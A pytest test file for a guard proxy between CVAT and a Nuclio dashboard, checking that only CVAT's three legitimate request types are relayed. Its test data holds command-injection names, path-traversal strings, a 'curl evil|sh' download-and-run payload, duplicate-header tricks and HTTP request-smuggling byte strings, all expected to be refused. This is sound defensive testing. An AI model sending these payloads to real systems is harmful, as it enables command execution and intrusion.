"""labforge/nuclio_guard.py: what reaches a Nuclio dashboard from CVAT. The decisions as data, then the real relay
on loopback between a client that sends what CVAT's LambdaGateway sends (the `requests` library, as CVAT uses it:
views.py 68-155 at dfd505e7) and a dashboard that records what reaches it."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
import requests

from labforge import nuclio_guard

CVAT_HEADERS = {"x-nuclio-project-name": "cvat", "x-nuclio-function-namespace": "nuclio",
                "x-nuclio-invoke-via": "domain-name", "X-Nuclio-Invoke-Timeout": "120s"}
# Every function name CVAT's serverless tree deploys at dfd505e7 (metadata.name of its function.yaml files) and ours.
REAL_NAMES = ["openvino-dextr", "openvino-omz-public-yolo-v3-tf", "pth-facebookresearch-sam-vit-h", "onnx-wongkinyiu-yolov7",
              "openvino-omz-intel-semantic-segmentation-adas-0001", "pth-labforge-sam2", "pth-labforge-sam2-tracker-cpu",
              "openvino.omz.public.yolo-v3-tf", "pth.facebookresearch.sam.vit_h"]  # dots and underscores: Nuclio takes them
ATTACKS = ["x;id", "x$(id)", "x`id`", "x|id", "x&&id", "x'", 'x"', "x;touch /tmp/p;", "x%3Bid", "x%20y", "../etc",
           "a/../../b", "-x", "x-", "a" * 64, "", "x\\ny", "x?y=1", "ns/x", "${IFS}", "x>y"]


@pytest.mark.parametrize("name", REAL_NAMES)
def test_every_real_function_name_passes(name):
    assert nuclio_guard.refusal("GET", f"/api/functions/{name}", CVAT_HEADERS) is None
    assert nuclio_guard.refusal("POST", "/api/function_invocations",
                                {**CVAT_HEADERS, "x-nuclio-function-name": name, "x-nuclio-path": "/"}) is None


@pytest.mark.parametrize("name", ATTACKS)
def test_a_name_nuclio_would_refuse_is_refused_in_the_path_and_in_the_headers(name):
    assert nuclio_guard.refusal("GET", f"/api/functions/{name}", CVAT_HEADERS)[0] == 400
    for header in ("x-nuclio-function-name", "x-nuclio-function-namespace"):
        assert nuclio_guard.refusal("POST", "/api/function_invocations",
                                    {**CVAT_HEADERS, "x-nuclio-function-name": "openvino-dextr", header: name})[0] == 400


@pytest.mark.parametrize(("method", "target", "status"), [
    ("POST", "/api/functions", 403),  # a deploy: a container of the caller's choice, the Docker socket behind it
    ("PUT", "/api/functions/openvino-dextr", 403), ("DELETE", "/api/functions/openvino-dextr", 403),
    ("GET", "/api/projects", 403), ("GET", "/api/functions/openvino-dextr/logs", 400), ("GET", "/", 403),
    ("GET", "/api/functions?x=1", 400), ("POST", "/api/function_invocations", 400),  # no function named
])
def test_only_the_three_requests_cvat_makes_pass(method, target, status):
    assert nuclio_guard.refusal(method, target, CVAT_HEADERS)[0] == status


def test_a_header_given_twice_is_refused_whatever_its_case():
    """Go's net/http merges X-Nuclio-Function-Name and x-nuclio-function-name and Header.Get reads the first, so a
    check of the last one could be bypassed by a client that sends both (a container on CVAT's network can)."""
    pairs = [("X-Nuclio-Function-Name", "x;id"), ("x-nuclio-function-name", "openvino-dextr"), ("x-nuclio-path", "/")]
    assert nuclio_guard.refusal("POST", "/api/function_invocations", pairs) == (400, "header x-nuclio-function-name given twice")
    assert nuclio_guard.refusal("GET", "/api/functions", [("Accept", "a"), ("accept", "b")])[0] == 400


def test_headers_cvat_never_sends_are_refused():
    assert nuclio_guard.refusal("GET", "/api/functions", {**CVAT_HEADERS, "x-nuclio-project-namespace": "nuclio"})[0] == 400
    assert nuclio_guard.refusal("GET", "/api/functions", {**CVAT_HEADERS, "x-nuclio-path": "/../x"})[0] == 400
    assert nuclio_guard.refusal("GET", "/api/functions", {**CVAT_HEADERS, "x-nuclio-project-name": "Cvat;id"})[0] == 400
    assert nuclio_guard.refusal("GET", "/api/functions", {"Accept": "*/*"}) is None


class Recorder(BaseHTTPRequestHandler):
    """A dashboard that answers every request and remembers it."""
    seen: ClassVar[list[tuple[str, str, dict]]] = []

    def log_message(self, *args):
        pass

    def _any(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        Recorder.seen.append((self.command, self.path, dict(self.headers.items())))
        data = json.dumps({"metadata": {"name": self.path.rsplit("/", 1)[-1]}, "received": len(body)}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = do_DELETE = _any


@pytest.fixture
def relay():
    dashboard = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    Recorder.seen = []
    nuclio_guard.Guard.upstream = ("127.0.0.1", dashboard.server_address[1])
    guard = ThreadingHTTPServer(("127.0.0.1", 0), nuclio_guard.Guard)
    for server in (dashboard, guard):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{guard.server_address[1]}"
    for server in (dashboard, guard):
        server.shutdown()
        server.server_close()


def test_what_cvat_asks_is_relayed_unchanged(relay):
    got = requests.get(relay + "/api/functions/openvino-dextr", headers=CVAT_HEADERS, timeout=10)
    assert got.status_code == 200 and got.json()["metadata"]["name"] == "openvino-dextr"
    called = requests.post(relay + "/api/function_invocations", json={"image": "x" * 1000}, timeout=10,
                           headers={**CVAT_HEADERS, "x-nuclio-function-name": "openvino-dextr", "x-nuclio-path": "/"})
    assert called.status_code == 200 and called.json()["received"] > 1000
    (_, path, headers), (_, path2, headers2) = Recorder.seen
    assert (path, path2) == ("/api/functions/openvino-dextr", "/api/function_invocations")
    assert headers2["x-nuclio-function-name"] == "openvino-dextr" and headers["x-nuclio-project-name"] == "cvat"


@pytest.mark.parametrize("function", ["x;touch /tmp/pwned;", "x$(touch /tmp/pwned)", "x;curl${IFS}evil|sh", "../../x"])
def test_a_crafted_function_from_cvat_gets_a_4xx_and_reaches_nothing(relay, function):
    """LambdaGateway.get(function) requests NUCLIO_ROOT_URL + "/" + function (views.py 120-121 at dfd505e7), with
    requests quoting what it must; CVAT relays the guard's status to its user (return_response, views.py 1194-1225)."""
    answer = requests.get(relay + "/api/functions/" + function, headers=CVAT_HEADERS, timeout=10)
    assert 400 <= answer.status_code < 500, answer.text
    assert Recorder.seen == []
    with pytest.raises(requests.HTTPError) as raised:  # what CVAT's _http() raises, then relays
        answer.raise_for_status()
    assert raised.value.response.status_code == answer.status_code


def test_a_raw_request_with_both_header_cases_reaches_nothing(relay):
    """The same as a client on CVAT's network would send it on the wire."""
    import socket
    host, port = relay.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(b"POST /api/function_invocations HTTP/1.1\r\nHost: x\r\nX-Nuclio-Function-Name: x;id\r\n"
                     b"x-nuclio-function-name: openvino-dextr\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        answer = conn.recv(4096).decode()
    assert answer.startswith("HTTP/1.1 400"), answer
    assert Recorder.seen == []


def raw(relay: str, request: bytes) -> str:
    import socket
    host, port = relay.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(request)
        chunks = []
        while data := conn.recv(65536):
            chunks.append(data)
    return b"".join(chunks).decode(errors="replace")


@pytest.mark.parametrize(("request_bytes", "status"), [
    # a chunked body is refused, and what follows it is not read as a second request
    (b"POST /api/function_invocations HTTP/1.1\r\nHost: x\r\nx-nuclio-function-name: openvino-dextr\r\n"
     b"Transfer-Encoding: chunked\r\n\r\n20\r\nGET /api/functions/x;id HTTP/1.1\r\n\r\n\r\n0\r\n\r\n", "411"),
    (b"POST /api/function_invocations HTTP/1.1\r\nHost: x\r\nx-nuclio-function-name: openvino-dextr\r\n"
     b"Content-Length: abc\r\n\r\n", "400"),
    (b"GET /api/functions/x;id HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\nGET /api/functions HTTP/1.1\r\n\r\n", "400"),
])
def test_what_a_client_on_cvats_network_sends_on_the_wire_is_answered_once_and_reaches_nothing(relay, request_bytes, status):
    answer = raw(relay, request_bytes)
    assert answer.startswith(f"HTTP/1.1 {status}") and answer.count("HTTP/1.1 ") == 1, answer
    assert "Connection: close" in answer
    assert Recorder.seen == []


def test_a_dashboard_that_is_down_is_a_502_not_a_hang(relay):
    nuclio_guard.Guard.upstream = ("127.0.0.1", 9)  # discard: nothing listens
    answer = requests.get(relay + "/api/functions", headers=CVAT_HEADERS, timeout=10)
    assert answer.status_code == 502 and "unreachable" in answer.json()["error"]
